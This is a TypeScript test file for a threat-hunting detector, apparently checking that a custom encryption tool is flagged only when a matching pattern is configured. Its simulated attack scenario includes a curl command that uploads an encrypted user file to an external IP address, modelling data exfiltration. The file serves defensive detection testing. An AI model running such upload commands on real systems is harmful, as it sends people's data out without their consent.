/** A tool that only a pattern knows makes a finding, and none without the pattern. */
import { describe, expect, it } from 'vitest';

import { toolPattern } from '../../test/pattern-of.ts';
import { DEFAULT_CONFIG } from '../config/default-config.ts';
import { huntSettings } from '../config/hunt-settings.ts';
import type { EncryptionPattern } from '../encryption/patterns/pattern.ts';
import type { Finding } from '../findings/finding.ts';
import { readStory } from '../stories/read-story.ts';
import { renderersFor } from '../stories/render/renderers.ts';
import { huntInMemory } from './hunt-in-memory.ts';

const STORY = `id: acmelock-then-curl
title: An in-house locker packs a list, and curl uploads what it wrote
platform: windows
description: Only a pattern knows the locker.
hosts:
  ws: { name: WS03, addresses: [10.20.1.31], user: CORP\\carla }
start: 2026-03-03T18:05:00Z
steps:
  - at: 0s
    process: { as: batch, image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'cmd.exe /c C:\\Users\\carla\\go.bat' }
  - at: 0.4s
    process:
      as: lock
      parent: batch
      image: C:\\acme\\acmelock.exe
      commandLine: acmelock seal -p Winter26 C:\\Users\\carla\\list.csv
  - at: +500ms
    file: { process: lock, path: 'C:\\Users\\carla\\list.csv.acme' }
  - at: +100ms
    end: { process: lock }
  - at: 1.5s
    process:
      as: curl
      parent: batch
      image: C:\\Windows\\System32\\curl.exe
      commandLine: curl -s -T C:\\Users\\carla\\list.csv.acme http://203.0.113.40:8080/in/
  - at: +200ms
    connect: { process: curl, to: 203.0.113.40, port: 8080 }
  - at: 4s
    end: { process: curl }
expect:
  findings: [{ analytic: AN1389, host: ws, process: curl, destination: 203.0.113.40, atLeast: medium }]
`;
const ACMELOCK = toolPattern('acmelock', {
  names: ['acmelock'],
  encrypts: ['seal'],
  key: { password: ['-p'] },
  inputs: [1],
  outputSuffix: '.acme',
});

async function hunt(patterns: readonly EncryptionPattern[]): Promise<readonly Finding[]> {
  const { story, problems } = readStory(STORY, 'acmelock.yaml');
  expect(problems).toEqual([]);
  const renderer = story === undefined ? undefined : renderersFor(story)[0];
  const settings = huntSettings(DEFAULT_CONFIG, {
    internal: ['10.0.0.0/8'],
    external: ['203.0.113.0/24'],
    since: undefined,
    until: undefined,
    patterns,
  });
  // As a worker thread gets them.
  return huntInMemory(story === undefined ? [] : (renderer?.render(story) ?? []), structuredClone(settings));
}

function rulesOf(findings: readonly Finding[]): string[] {
  return findings.flatMap(({ encryption }) => encryption.map(({ operation }) => operation.rule));
}

describe('a hunt with patterns', () => {
  it('finds what only a pattern knows, and names it', async () => {
    const findings = await hunt([ACMELOCK]);
    expect(rulesOf(findings)).toEqual(['pattern/acmelock']);
    expect(findings[0]?.level).toBe('high');
    expect(JSON.stringify(findings)).not.toContain('Winter26');
  });

  it('does not find it without', async () => {
    expect(rulesOf(await hunt([]))).toEqual([]);
  });
});
